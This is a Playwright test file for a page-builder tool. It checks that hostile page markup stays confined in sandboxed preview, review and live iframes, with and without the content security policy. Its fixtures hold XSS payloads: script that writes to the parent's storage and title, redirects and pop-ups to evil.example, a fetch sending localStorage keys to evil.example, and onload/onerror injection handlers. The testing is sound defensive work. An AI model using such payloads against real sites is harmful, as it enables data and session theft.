import { expect, type Page } from '@playwright/test'
import { findComponent } from '#catalogue/lookup.ts'
import type { Draft } from '#content/draft/draft.ts'
import { importContent } from '#content/draft/draft-content.ts'
import { dataSchema, readData } from '#content/parse-result.ts'
import { contentWith, hostileTexts } from '../test/hostile-values.ts'
import { sampleDocument } from './sample-documents.ts'
import { emptyDraft, manifest } from './sample-draft.ts'
import { test } from './the-browser.ts'
import { openDraft } from './the-builder.ts'
import { openGenerator, parseOne, renderedPage } from './the-generator.ts'

/** The tool's own policy would keep scripts out of the frame as well: without it the frame alone must hold. */
test.use({ bypassCSP: true, isAlone: true })

/** What a page would try if a value ever became markup. Whatever works leaves a mark or asks for evil.example. */
const hostileHead = `<meta http-equiv="refresh" content="0;url=https://evil.example/refreshed">
<script>
  const attempts = [
    () => { parent.document.title = 'hacked' },
    () => { parent.localStorage.setItem('hacked', 'by parent') },
    () => { localStorage.setItem('hacked', 'by itself') },
    () => { parent.hacked = document.cookie || true },
    () => { top.location.href = 'https://evil.example/top' },
    () => { open('https://evil.example/window') },
    () => { alert('hacked') },
    () => { fetch('https://evil.example/' + Object.keys(parent.localStorage)) },
    () => { new Image().src = 'https://evil.example/image' },
    () => { indexedDB.open('hacked') },
  ]
  for (const attempt of attempts) try { attempt() } catch {}
</script>`

const hostileBody = `<h1 class="hacked">A hostile page</h1>
<svg onload="parent.hacked = true"></svg>
<img alt="" src="data:," onerror="parent.hacked = true; alert('hacked')">
<iframe title="inner" srcdoc="<script>top.hacked = true; top.localStorage.hacked = 'inner'</script>"></iframe>`

const hostilePage = `<!doctype html>
<html lang="en"><head><title>Hostile</title>${hostileHead}</head>
<body><main id="main">${hostileBody}</main></body></html>`

/** Whatever the page reached of ours, or asked of others. */
function watchHarm(page: Page): string[] {
  const harm: string[] = []
  page.on('dialog', (dialog) => {
    harm.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss().catch(() => undefined)
  })
  page.context().on('request', (request) => {
    if (request.url().includes('evil.example')) harm.push(`asked for ${request.url()}`)
  })
  page.context().on('page', () => harm.push('a window'))
  return harm
}

async function marksOn(page: Page) {
  return await page.evaluate(async () => ({
    title: document.title.includes('hacked'),
    global: 'hacked' in window,
    storage: Object.keys(localStorage).filter((key) => key.includes('hacked')),
    databases: (await indexedDB.databases()).filter(({ name }) => name === 'hacked'),
  }))
}

const unharmed = { title: false, global: false, storage: [], databases: [] }

test('a hostile page in the preview reaches nothing of the tool, even without its policy', async ({
  page,
}) => {
  const harm = watchHarm(page)
  await page.route('**/templates/page.html', (route) =>
    route.fulfill({ body: hostilePage, contentType: 'text/html' }),
  )
  await openGenerator(page)
  await parseOne(page, await sampleDocument('hostile.docx'))
  await expect(renderedPage(page).getByRole('heading', { name: 'A hostile page' })).toBeVisible()
  // The frame that measures pages for the report has had its turn.
  await expect(page.getByRole('region', { name: 'Page report' })).toBeVisible()
  expect(await marksOn(page)).toEqual(unharmed)
  expect(harm).toEqual([])
})

test('hostile values in a draft, on hostile pages around them, reach nothing in the review and the preview', async ({
  page,
}) => {
  const harm = watchHarm(page)
  await page.route('**/templates/page.html', async (route) => {
    const response = await route.fetch()
    const shell = await response.text()
    const body = shell.replace('<head>', `$&${hostileHead}`).replace('<body>', `$&${hostileBody}`)
    await route.fulfill({ response, body })
  })
  await openDraft(page, hostileDraft())
  await page
    .getByRole('banner')
    .getByRole('button', { name: /^Review/ })
    .click()
  const section = page.frameLocator('iframe[title$="as it will look"][data-shown]')
  await expect(section.getByRole('heading', { name: 'A hostile page' })).toBeVisible()
  await expect(section.locator('.hbr001')).toContainText(hostileTexts.at(-1) ?? '')
  await page.keyboard.press('Escape')

  await page.getByRole('banner').getByRole('button', { name: 'Preview' }).click()
  const whole = page.frameLocator('iframe[title="The page as it will be downloaded"]')
  await expect(whole.getByRole('heading', { name: 'A hostile page' })).toBeVisible()
  await expect(page.getByRole('region', { name: 'Page report' }).getByRole('status')).toContainText('errors')
  expect(await marksOn(page)).toEqual(unharmed)
  expect(harm).toEqual([])
})

/** A template whose markup does what a value would, if one ever became markup. */
async function openHostileCanvas(page: Page) {
  await page.route('**/templates/page-files.json', async (route) => {
    const response = await route.fetch()
    const files: { templates: Record<string, string> } = await response.json()
    const hostile = `<section class="hostile" id="{{ id }}">${hostileBody}${hostileHead}</section>`
    await route.fulfill({ response, json: { ...files, templates: { ...files.templates, HBR001: hostile } } })
  })
  await openDraft(page, hostileDraft())
  const live = page.frameLocator('iframe[title="Page"]')
  await expect(live.getByRole('heading', { name: 'A hostile page' })).toBeVisible()
  await expect(live.locator('.faq001')).toContainText(hostileTexts.at(-1) ?? '')
}

test('a hostile section of the live page reaches nothing, by the sandbox of its frame alone', async ({
  page,
}) => {
  const harm = watchHarm(page)
  await openHostileCanvas(page)
  await expect(page.getByTitle('Page', { exact: true })).toHaveAttribute('sandbox', 'allow-same-origin')
  expect(await marksOn(page)).toEqual(unharmed)
  expect(harm).toEqual([])
})

test.describe('where the browser keeps the events of such a frame to itself', () => {
  test.use({ bypassCSP: false })

  test('the same reaches nothing, by the policy of its document alone', async ({ page }) => {
    const harm = watchHarm(page)
    await page.route('**/builder?*', async (route) => {
      const response = await route.fetch()
      const { 'content-security-policy': _, ...headers } = response.headers()
      await route.fulfill({ response, headers })
    })
    await page.addInitScript(() => {
      const { get } = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow') ?? {}
      Object.defineProperty(HTMLIFrameElement.prototype, 'contentWindow', {
        get(this: HTMLIFrameElement) {
          const own: Window | null = get?.call(this)
          if (own && this.sandbox.value === 'allow-same-origin') own.document.dispatchEvent = () => true
          return own
        },
      })
    })
    await openHostileCanvas(page)
    await expect(page.getByTitle('Page', { exact: true })).toHaveAttribute(
      'sandbox',
      'allow-same-origin allow-scripts',
    )
    expect(await marksOn(page)).toEqual(unharmed)
    expect(harm).toEqual([])
  })
})

/** Every field of a page has all of the values. */
function hostileDraft(): Draft {
  const value = hostileTexts.join(' ').replaceAll('hacked()', 'alert(1)')
  const draft = emptyDraft('gold-card', ['HBR001', 'FAQ001'])
  const data = draft.layout.components.flatMap(({ code, instanceId }) => {
    const component = findComponent(manifest, code)
    return component ? [[instanceId, contentWith(component, 'everything', value)]] : []
  })
  const content = importContent(
    readData(dataSchema.parse(Object.fromEntries(data))),
    '2026-11-01T08:00:00.000Z',
  )
  return { ...draft, content }
}

test('the same page, opened where scripts run, does all of that', async ({ page }) => {
  const harm = watchHarm(page)
  await page.route('**/hostile-page', (route) =>
    route.fulfill({ body: hostilePage, contentType: 'text/html' }),
  )
  await page.route('https://evil.example/**', (route) => route.abort())
  await page.goto('/hostile-page').catch(() => undefined)
  await expect.poll(() => harm.length).toBeGreaterThan(2)
})
